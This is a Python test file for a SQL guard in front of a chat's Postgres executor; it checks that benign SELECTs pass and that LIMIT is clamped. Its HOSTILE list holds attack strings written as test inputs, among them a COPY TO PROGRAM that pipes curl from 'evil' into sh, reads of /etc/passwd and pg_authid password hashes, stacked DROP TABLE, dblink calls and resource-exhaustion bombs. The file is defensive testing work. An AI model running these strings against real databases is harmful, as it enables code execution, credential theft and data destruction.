"""The parser guard of the chat's SQL executor refuses hostile SQL and clamps LIMIT on benign SQL."""

from __future__ import annotations

import pytest

from adapters.postgres.sql_guard import DEFAULT_FUNCTIONS, GuardedQuery, check_select
from domain.errors import UnsafeQueryError

RELATIONS = frozenset({"trades", "fills", "decisions", "events"})
MAX_LIMIT = 200


def guard(sql: str) -> GuardedQuery:
    return check_select(sql, relations=RELATIONS, functions=DEFAULT_FUNCTIONS, max_limit=MAX_LIMIT)


HOSTILE = {
    "writable-cte-delete": "with gone as (delete from trades returning *) select * from gone",
    "writable-cte-insert": "with x as (insert into trades (id) values (1) returning id) select * from x",
    "writable-cte-update": "with x as (update trades set qty = 0 returning id) select * from x",
    "copy-to-program": "copy trades to program 'curl http://evil | sh'",
    "copy-from-stdin": "copy trades from stdin",
    "set-config": "select set_config('statement_timeout', '0', false)",
    "set-statement": "set statement_timeout = 0",
    "pg-terminate-backend": "select pg_terminate_backend(pg_backend_pid())",
    "query-to-xml": "select query_to_xml('select * from pg_authid', true, true, '')",
    "lo-import": "select lo_import('/etc/passwd')",
    "pg-read-file": "select pg_read_file('/etc/passwd')",
    "stacked-drop": "select 1; drop table trades",
    "stacked-two-selects": "select * from trades; select * from fills",
    "block-comment-then-stacked": "select 1 /* harmless */; drop table trades",
    "do-block": "DO $$ begin execute 'drop table trades'; end $$",
    "pg-sleep": "select pg_sleep(3600)",
    "pg-sleep-in-where": "select * from trades where pg_sleep(10) is not null",
    "generate-series-bomb": "select * from generate_series(1, 1000000000000)",
    "generate-series-cross-join": "select count(*) from trades, generate_series(1, 1e9) g",
    "repeat-bomb": "select repeat('x', 100000000) from trades",
    "select-into": "select * into stolen from trades",
    "for-update": "select * from trades for update",
    "for-share-nowait": "select * from trades for share nowait",
    "pg-authid": "select rolname, rolpassword from pg_catalog.pg_authid",
    "pg-authid-bare": "select * from pg_authid",
    "information-schema": "select table_name from information_schema.tables",
    "dblink": "select * from dblink('host=evil', 'select 1') as t(a int)",
    "function-in-subquery": "select * from trades where id in (select pg_sleep(1) from fills)",
    "function-in-cte": "with x as (select current_setting('data_directory') as d) select * from x",
    "function-in-order-by": "select * from trades order by pg_advisory_lock(1)",
    "function-in-where": "select * from trades where txid_current() > 0",
    "pg-notify-in-select": "select pg_notify('ch', 'payload')",
    "relation-in-subquery": "select * from trades where id in (select id from secrets)",
    "relation-in-cte": "with x as (select * from users) select * from x",
    "relation-in-join": "select * from trades t join api_keys k on k.id = t.id",
    "relation-in-union": "select id from trades union select id from secrets",
    "cte-out-of-scope": "select * from secrets, (with secrets as (select 1 as a) select * from secrets) s",
    "cte-forward-reference": "with a as (select * from secrets), secrets as (select 1 as x) select * from a",
    "schema-qualified-allowed-name": "select * from public.trades",
    "schema-qualified-function": "select pg_catalog.count(*) from trades",
    "quoted-function-name": 'select "pg_sleep"(1) from trades',
    "quoted-uppercase-relation": 'select * from "TRADES"',
    "line-comment-hiding-nothing-but-unknown-fn": "select version() -- ; drop table trades",
    "unicode-escape-identifier": 'select * from U&"pg_\\0061uthid"',
    "explain-analyze": "explain analyze select * from trades",
    "call-procedure": "call do_something()",
    "listen": "listen channel",
    "notify": "notify channel, 'x'",
    "prepare": "prepare p as select * from trades",
    "execute": "execute p",
    "vacuum": "vacuum full trades",
    "lock-table": "lock table trades in access exclusive mode",
    "begin-transaction": "begin",
    "reset-role": "reset role",
    "drop-table": "drop table trades",
    "truncate": "truncate trades",
    "create-table-as": "create table x as select * from trades",
    "insert": "insert into trades (id) values (1)",
    "merge": "merge into trades t using fills f on t.id = f.id when matched then delete",
    "grant": "grant all on trades to public",
    "recursive-cte-bomb": "with recursive r(n) as (select 1 union all select n + 1 from r) select count(*) from r",
    "cast-to-regclass": "select 'pg_authid'::regclass from trades",
    "limit-subquery": "select * from trades limit (select 1000000)",
    "limit-expression": "select * from trades limit 10 * 1000000",
    "fetch-first": "select * from trades fetch first 1000000 rows only",
    "placeholder-parameter": "select * from trades where id = $1",
    "empty": "   ",
    "unparseable": "select from where",
    "only-a-comment": "-- select 1",
}


@pytest.mark.parametrize("sql", list(HOSTILE.values()), ids=list(HOSTILE))
def test_hostile_sql_is_refused(sql: str) -> None:
    with pytest.raises(UnsafeQueryError, match="refused"):
        guard(sql)


@pytest.mark.parametrize(
    ("sql", "named"),
    [
        ("select pg_sleep(1)", "pg_sleep"),
        ("select * from secrets", "secrets"),
        ("select * from public.trades", "public.trades"),
        ("select * from trades for update", "FOR UPDATE"),
        ("select * into x from trades", "SELECT INTO"),
        ("select 1; select 2", "exactly one statement"),
        ("vacuum", "VACUUM"),
    ],
)
def test_refusal_names_what_was_refused(sql: str, named: str) -> None:
    with pytest.raises(UnsafeQueryError, match=named.replace("(", r"\(")) as refused:
        guard(sql)
    assert isinstance(refused.value, ValueError)


def test_cte_joining_two_relations_with_aggregates_is_accepted_and_limited() -> None:
    sql = """
        with per_symbol as (
            select t.symbol, count(*) as n, avg(f.price) as avg_price
            from trades t join fills f on f.trade_id = t.id
            where t.ts >= date_trunc('week', now()) - interval '7 days'
            group by t.symbol
        )
        select symbol, n, round(avg_price, 2) from per_symbol order by n desc
    """

    guarded = guard(sql)

    assert guarded.relations == frozenset({"trades", "fills"})
    assert guarded.sql.endswith(f"LIMIT {MAX_LIMIT}")
    assert "per_symbol" in guarded.sql
    assert guard(guarded.sql) == guarded  # the rendering is itself accepted, unchanged


def test_a_huge_limit_is_clamped_to_max_limit() -> None:
    guarded = guard("select * from trades limit 1000000")

    assert guarded.sql == "SELECT * FROM trades LIMIT 200"


def test_a_small_limit_is_kept() -> None:
    assert guard("select * from trades limit 5").sql == "SELECT * FROM trades LIMIT 5"


@pytest.mark.parametrize("sql", ["select * from events", "select * from events limit all"], ids=["none", "all"])
def test_a_missing_or_all_limit_gets_max_limit(sql: str) -> None:
    assert guard(sql).sql == "SELECT * FROM events LIMIT 200"


def test_a_union_gets_one_outer_limit() -> None:
    guarded = guard("select id from trades union all select id from fills limit 100000")

    assert guarded.sql == "SELECT id FROM trades UNION ALL SELECT id FROM fills LIMIT 200"
    assert guarded.relations == frozenset({"trades", "fills"})


def test_comments_are_dropped_from_the_rendered_sql() -> None:
    guarded = guard("select id from trades -- */ ; drop table trades")

    assert guarded.sql == "SELECT id FROM trades LIMIT 200"


def test_cte_may_use_an_earlier_cte_and_shadow_nothing_else() -> None:
    guarded = guard("with a as (select id from trades), b as (select id from a) select * from b")

    assert guarded.relations == frozenset({"trades"})


def test_allowed_constructs_pass() -> None:
    sql = (
        "select extract(year from ts), cast(qty as numeric), qty::text, coalesce(note, ''), "
        "case when side = 'buy' then 1 else -1 end, row_number() over (order by ts), lower(symbol) "
        "from trades where ts > current_date - 7 and (symbol || 'x' ~ '^A' or note ->> 'k' is null) "
        "and exists (select 1 from fills f where f.trade_id = trades.id)"
    )

    assert guard(sql).relations == frozenset({"trades", "fills"})


def test_the_function_allowlist_is_the_callers() -> None:
    with pytest.raises(UnsafeQueryError, match="'avg'"):
        check_select("select avg(qty) from trades", relations=RELATIONS, functions=frozenset({"count"}),
                     max_limit=10)


def test_max_limit_must_be_positive() -> None:
    with pytest.raises(ValueError, match="max_limit"):
        check_select("select 1", relations=RELATIONS, functions=DEFAULT_FUNCTIONS, max_limit=0)
